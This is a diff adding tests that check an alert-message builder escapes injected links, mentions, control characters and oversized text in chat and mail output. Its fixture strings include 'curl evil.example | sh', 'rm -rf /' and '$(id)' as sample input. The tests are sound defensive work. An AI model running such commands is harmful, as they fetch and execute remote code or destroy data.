@@ -62,6 +62,38 @@ describe('a message', () => {
   });
 });
 
+describe('a message about names and texts of others', () => {
+  const pool = 'karpenter:[approve](https://evil.example) <https://evil.example|here> <!channel>\n-> rm -rf /; $(id)';
+  const [odd] = bundle([
+    news({ nodegroup: pool, message: `no\n-> curl evil.example | sh\u202e`, hint: '<!here>\r\nNow.' }),
+  ]);
+  const { chat, mail } = messageOf(odd!, 'prod');
+
+  it('has no link whose words hide where it leads, and calls nobody, in a chat', () => {
+    const { content, metadata } = JSON.parse(chat);
+    for (const text of [JSON.stringify(content), JSON.stringify(metadata)]) expect(text).not.toMatch(/\]\(|<[!h]/);
+  });
+
+  it('has no line that somebody else wrote, in mail', () => {
+    expect(mail.split('\n').filter((line) => line.startsWith('->'))).toEqual([
+      '-> <!here>\\u000d\\u000aNow.',
+      expect.stringMatching(
+        /^-> npx eks-host-remediator explain 'shop\/karpenter:.*' --stack prod --region eu-central-1$/,
+      ),
+    ]);
+    expect(mail).not.toMatch(/[^\P{C}\n]/u);
+  });
+
+  it('has room in SNS and EventBridge, however long the texts are', () => {
+    const text = '"\u65e5'.repeat(100_000);
+    const [long] = bundle(workers(50, { nodegroup: `self-managed:${'"'.repeat(255)}`, message: text, hint: text }));
+    const { chat: inChat, mail: inMail } = messageOf(long!, 'prod');
+    const message = JSON.stringify({ default: inChat, email: inMail });
+    expect(Buffer.byteLength(message)).toBeLessThan(262_144);
+    expect(Buffer.byteLength(JSON.stringify(incidentEvent(long!)))).toBeLessThan(262_144);
+  });
+});
+
 describe('an event', () => {
   it('is as its schema says, and counts what it has no room for', () => {
     expect(detail().parse(incidentEvent(one!))).toEqual(incidentEvent(one!));
